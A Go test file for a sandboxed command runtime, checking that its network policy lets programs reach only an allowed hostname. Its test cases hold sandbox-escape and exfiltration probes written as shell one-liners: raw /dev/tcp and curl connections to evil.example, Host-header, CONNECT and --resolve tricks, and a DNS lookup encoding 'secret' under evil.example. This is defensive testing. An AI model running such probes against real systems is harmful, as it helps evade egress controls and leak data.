package execbus_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	osexec "os/exec"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/execbus/execbus"
	"github.com/execbus/execbus/messages"
)

// resolving makes the host look names up at a server of ours, which says 127.0.0.1 for each, and returns which it was asked for.
func resolving(t *testing.T) (asked func() []string) {
	t.Helper()
	packets, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var names []string
	served := make(chan struct{})
	go func() {
		defer close(served)
		for query := make([]byte, 512); ; {
			n, from, err := packets.ReadFrom(query)
			if err != nil {
				return
			}
			var message dnsmessage.Message
			if message.Unpack(query[:n]) != nil {
				continue
			}
			question := message.Questions[0]
			mu.Lock()
			names = append(names, question.Name.String())
			mu.Unlock()
			message.Response, message.Additionals = true, nil
			if question.Type == dnsmessage.TypeA {
				message.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: question.Name, Class: question.Class, TTL: 1}, Body: &dnsmessage.AResource{A: [4]byte{127, 0, 0, 1}}}}
			}
			answer, _ := message.Pack()
			_, _ = packets.WriteTo(answer, from)
		}
	}()
	before := net.DefaultResolver
	net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", packets.LocalAddr().String())
	}}
	t.Cleanup(func() {
		net.DefaultResolver = before
		_ = packets.Close()
		<-served
	})
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), names...)
	}
}

// named is a policy by which commands may talk to a name, and the name may lead to this machine.
func named(name, authority string, protocol messages.HostProtocol) messages.NetworkPolicy {
	_, port, _ := net.SplitHostPort(authority)
	var policy messages.NetworkPolicy
	for _, host := range []string{name + ":" + port, authority} {
		policy.Hosts = append(policy.Hosts, messages.HostRule{Host: host, Protocol: protocol, Decision: messages.HostAllow})
	}
	return policy
}

// unset takes the proxy variables away.
const unset = `for v in ${!HTTP*} ${!http*} ${!ALL_*} ${!all_*} ${!NO_*} ${!no_*} ${!JAVA*}; do unset "$v"; done; `

// Programs that ignore the variables of proxies reach a host by its name, and nothing else.
func TestProgramsReachHostsByNameAlone(t *testing.T) {
	asked := resolving(t)
	authority := site(t)
	_, port, _ := net.SplitHostPort(authority)
	session := online(t, newRuntime(t, execbus.Options{}), named("good.example", authority, messages.HostHTTP))
	for program, script := range map[string]string{
		"bash": `exec 3<>"/dev/tcp/$1/$2" && printf 'GET / HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n' "$1" "$2" >&3 && cat <&3`,
		"curl": `curl -sS -f --max-time 60 --noproxy '*' "http://$1:$2/"`,
		"wget": `wget -q -O - --no-proxy --tries=1 "http://$1:$2/"`,
		"python3": `python3 -c 'import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
s.sendall(b"GET / HTTP/1.0\r\nHost: %s:%s\r\n\r\n" % (sys.argv[1].encode(), sys.argv[2].encode()))
while data := s.recv(4096): print(data.decode())' "$1" "$2"`,
	} {
		t.Run(program, func(t *testing.T) {
			if _, err := osexec.LookPath(program); err != nil {
				t.Skipf("skipped: %v", err)
			}
			for host, page := range map[string]bool{"good.example": true, "GOOD.example.": true, "evil.example": false, "secret-data.evil.example": false, "127.0.0.1": false, "198.18.77.77": false} {
				result := fetched(t, session, unset+`set -- `+host+` `+port+`; `+script)
				if got := strings.Contains(string(result.Stdout), "the page"); got != page {
					t.Errorf("%s: the page came %v: %s %s", host, got, result.Stdout, result.Stderr)
				}
			}
		})
	}
	for _, name := range asked() {
		if !strings.HasSuffix(name, "good.example.") {
			t.Errorf("the host looked %s up", name)
		}
	}
}

// The name in TLS must be the one whose address was asked for.
func TestTLSByNameAlone(t *testing.T) {
	resolving(t)
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, "the page") }))
	t.Cleanup(server.Close)
	if _, err := osexec.LookPath("curl"); err != nil {
		t.Skipf("skipped: %v", err)
	}
	authority := server.Listener.Addr().String()
	_, port, _ := net.SplitHostPort(authority)
	session := online(t, newRuntime(t, execbus.Options{}), named("good.example", authority, messages.HostHTTPS))
	for url, page := range map[string]bool{"https://good.example:" + port: true, "http://good.example:" + port: false} {
		result := fetched(t, session, unset+"curl -k -sS -f --max-time 60 "+url)
		if got := strings.Contains(string(result.Stdout), "the page"); got != page {
			t.Errorf("%s: the page came %v: %s %s", url, got, result.Stdout, result.Stderr)
		}
	}
	result := fetched(t, session, unset+`address=$(getent ahostsv4 good.example | head -1 | cut -d' ' -f1); echo "$address"; curl -k -sS -f --max-time 60 --resolve evil.example:`+port+`:$address https://evil.example:`+port)
	if said := string(result.Stdout) + string(result.Stderr); !strings.HasPrefix(said, "198.18.") || strings.Contains(said, "the page") || !strings.Contains(said, "access denied") {
		t.Error(said)
	}
}

// What programs may try with the addresses of names.
func TestAddressesOfNamesLeadNowhereElse(t *testing.T) {
	asked := resolving(t)
	authority := site(t)
	_, port, _ := net.SplitHostPort(authority)
	session := online(t, newRuntime(t, execbus.Options{}), named("good.example", authority, messages.HostHTTP))
	events, err := session.Events(execbus.Watch{Kinds: []messages.EventKind{messages.KindNetworkConnection}})
	if err != nil {
		t.Fatal(err)
	}
	defer events.Close()
	const request = `request() { exec 3<>"/dev/tcp/$1/$2" && printf 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' "$4" "$3" >&3 && timeout 60 cat <&3; }; `
	for name, c := range map[string]struct{ script, want string }{
		"another Host header": {`request good.example ` + port + ` evil.example /`, "421 Misdirected Request"},
		"another target":      {`request good.example ` + port + ` good.example http://evil.example/`, "421 Misdirected Request"},
		"CONNECT":             {`exec 3<>/dev/tcp/good.example/` + port + `; printf 'CONNECT good.example:` + port + ` HTTP/1.1\r\nHost: x\r\n\r\n' >&3; timeout 60 cat <&3`, "400 Bad Request"},
		"a port of no rule":   {`timeout 60 bash -c 'exec 3<>/dev/tcp/good.example/9' && echo connected || echo refused`, "refused"},
		"loopback":            {`exec 3<>/dev/tcp/127.0.0.1/` + port + `; timeout 60 cat <&3 2>&1; echo over`, "over"},
		"the address of none": {`exec 3<>/dev/tcp/198.19.1.1/` + port + `; timeout 60 cat <&3 2>&1; echo over`, "over"},
		"datagrams":           {`address=$(getent ahostsv4 good.example | head -1 | cut -d' ' -f1); echo x >/dev/udp/$address/` + port + `; echo x >/dev/udp/$address/` + port + ` 2>&1; echo over`, "over"},
		"a way out":           {`timeout 60 bash -c 'exec 3<>/dev/tcp/192.0.2.1/` + port + `' && echo connected || echo refused`, "refused"},
	} {
		t.Run(name, func(t *testing.T) {
			result := fetched(t, session, unset+request+c.script)
			if said := string(result.Stdout); !strings.Contains(said, c.want) || strings.Contains(said, "the page") || strings.Contains(said, "connected") {
				t.Errorf("%s, %s", said, result.Stderr)
			}
		})
	}
	fetched(t, session, "getent ahostsv4 c2VjcmV0.evil.example")
	for _, name := range asked() {
		if name != "good.example." {
			t.Errorf("the host looked %s up", name)
		}
	}
	for {
		e, err := events.Next(patient(t))
		if err != nil {
			t.Fatal(err)
		}
		if c := e.(messages.NetworkConnection).Connection; c.Host == "c2vjcmv0.evil.example" {
			if c.Allowed || c.Suggestion == nil || c.Process != 0 {
				t.Errorf("%+v", c)
			}
			return
		}
	}
}
